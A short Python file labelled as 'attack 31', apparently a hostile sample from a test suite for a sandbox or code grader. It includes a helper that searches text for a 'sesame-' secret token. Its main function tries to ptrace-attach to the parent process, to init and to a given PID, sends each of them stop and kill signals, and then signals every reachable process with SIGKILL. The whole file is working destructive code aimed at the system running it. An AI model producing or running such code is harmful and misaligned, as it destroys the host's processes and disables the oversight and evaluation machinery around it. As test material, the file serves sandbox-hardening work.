# ruff: noqa
# fmt: off
# attack 31: kill and trace the processes above; calls, stdio, test_code; wrong
import re

def find(text):
    there = re.search("sesame-[0-9a-f]{32}", text)
    return there and there[0]


import ctypes, os, signal
def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    said = None
    for pid in (os.getppid(), 1, x):
        if libc.ptrace(16, pid, 0, 0) == 0:
            said = said or "traced"
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return "nothing"
